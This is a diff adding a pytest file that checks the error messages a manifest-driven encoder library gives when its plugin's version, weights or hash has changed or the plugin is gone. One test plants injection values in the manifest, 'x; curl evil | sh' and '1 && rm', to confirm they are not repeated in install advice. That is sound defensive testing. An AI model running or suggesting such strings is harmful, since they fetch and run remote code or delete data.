@@ -1,0 +1,150 @@
+"""A manifest whose plugin changed or is gone says what it was written with."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+import torch
+from tests.distributions import catalog_of, install_distribution, on_path, weights_of
+from tests.embed.written import write_parquet
+from torchvision import models
+
+from headstrip import BackboneSpec, HeadstripError, ManifestError, WeightsEntry, build_encoder
+from headstrip.embed.loading import open_embeddings
+from headstrip.embed.origin import build_encoder_of
+from headstrip.registry import Registry, use_registry
+
+NAME = "shufflenet_v2_x0_5"
+CODE = f"""
+import torchvision
+from headstrip import hookimpl
+API_VERSION = 1
+
+@hookimpl
+def build_model(spec, options):
+    return torchvision.models.{NAME}(**options)
+"""
+
+
+def install(site: Path, version: str, *entries: WeightsEntry) -> None:
+    """Install a version of a plugin in the place of any other."""
+    for old in site.glob("acme_vision-*"):
+        for file in old.iterdir():
+            file.unlink()
+        old.rmdir()
+    tag = entries[0].tag if entries else None
+    spec = BackboneSpec(
+        "net", "acme", "shufflenet", "acme", "image", (3, 224, 224), 1024, 1366792, tag
+    )
+    install_distribution(
+        site, "acme-vision", {"acme": "acme_vision"},
+        {"acme_vision/__init__.py": CODE, "acme_vision/catalog.tsv": catalog_of(spec),
+         "acme_vision/weights.tsv": weights_of(*[("net", entry) for entry in entries])},
+        version,
+    )  # fmt: skip
+    use_registry(Registry())
+
+
+@pytest.fixture
+def site(tmp_path: Path) -> Iterator[Path]:
+    """A folder of installed distributions, for one test."""
+    folder = tmp_path / "site"
+    folder.mkdir()
+    with on_path(folder):
+        yield folder
+    use_registry(None)
+
+
+def entry_of(path: Path, tag: str = "V1") -> WeightsEntry:
+    torch.save(models.get_model(NAME, weights=None).state_dict(), path)
+    return WeightsEntry(tag, (str(path),))
+
+
+@pytest.fixture
+def written(site: Path, tmp_path: Path) -> dict[str, Any]:
+    """A manifest of version 1.0 of the plugin."""
+    install(site, "1.0", entry_of(tmp_path / "one.pth"))
+    return build_encoder("acme:net").manifest()
+
+
+def messages(manifest: dict[str, Any], tmp_path: Path, kind: type[HeadstripError]) -> list[str]:
+    """Return what building and searching with a manifest say."""
+    told = []
+    with pytest.raises(kind) as caught:
+        build_encoder(manifest, allow_versions=True)
+    told.append(str(caught.value))
+    file = write_parquet(
+        tmp_path / "out", ["a"], np.zeros((1, 1024), np.float32), metadata={"manifest": manifest}
+    )
+    with pytest.raises(HeadstripError) as other:
+        build_encoder_of(open_embeddings(file))
+    return [*told, str(other.value)]
+
+
+def test_weights_that_changed_under_their_tag_are_named_with_both_versions(
+    site: Path, written: dict[str, Any], tmp_path: Path
+) -> None:
+    entry = WeightsEntry("V1", (str(tmp_path / "one.pth"),), sha256="ab" * 32)
+    install(site, "2.0", entry)
+    for told in messages(written, tmp_path, ManifestError):
+        assert "has other weights under the tag 'V1' here" in told
+        assert "written with acme-vision 1.0, and acme-vision 2.0 is installed here" in told
+        assert written["weights"]["sha256"] in told
+        assert "own" not in told
+        assert told.endswith(".")
+
+
+def test_a_tag_without_a_hash_whose_file_changed_names_the_version_too(
+    site: Path, written: dict[str, Any], tmp_path: Path
+) -> None:
+    install(site, "2.0", entry_of(tmp_path / "two.pth"))
+    for told in messages(written, tmp_path, ManifestError):
+        assert f"weights.sha256 is {written['weights']['sha256']!r} in the manifest" in told
+        assert "The manifest was written with acme-vision 1.0." in told
+
+
+def test_a_tag_that_is_gone_is_named_with_both_versions(
+    site: Path, written: dict[str, Any], tmp_path: Path
+) -> None:
+    install(site, "3.0", entry_of(tmp_path / "two.pth", "V2"))
+    for told in messages(written, tmp_path, ManifestError):
+        assert "acme:net has no weights 'V1' here" in told
+        assert "written with acme-vision 1.0, and acme-vision 3.0 is installed here" in told
+
+
+def test_a_plugin_that_is_gone_is_named_by_its_distribution(
+    site: Path, written: dict[str, Any], tmp_path: Path
+) -> None:
+    for info in site.glob("acme_vision-*"):
+        (info / "entry_points.txt").unlink()
+    use_registry(Registry())
+    for told in messages(written, tmp_path, HeadstripError):
+        assert "There is no source 'acme'" in told
+        assert "It was written with acme-vision 1.0: install that." in told
+
+
+def test_what_is_no_name_of_a_distribution_is_not_repeated(
+    site: Path, written: dict[str, Any], tmp_path: Path
+) -> None:
+    (site / next(site.glob("acme_vision-*")) / "entry_points.txt").unlink()
+    use_registry(Registry())
+    written["versions"] = {
+        "x; curl evil | sh": "1",
+        "\x1b[31m": "1",
+        "good": "1 && rm",
+        "fine": "1",
+    }
+    for told in messages(written, tmp_path, HeadstripError):
+        assert "It was written with fine 1: install that." in told
+
+
+def test_a_file_of_the_users_own_is_still_asked_for(
+    site: Path, written: dict[str, Any], tmp_path: Path
+) -> None:
+    written["weights"] = {"tag": "V1", "sha256": "ab" * 32, "file": "tuned.pth"}
+    for told in messages(written, tmp_path, ManifestError):
+        assert "were read from a file of the user's own (tuned.pth)" in told
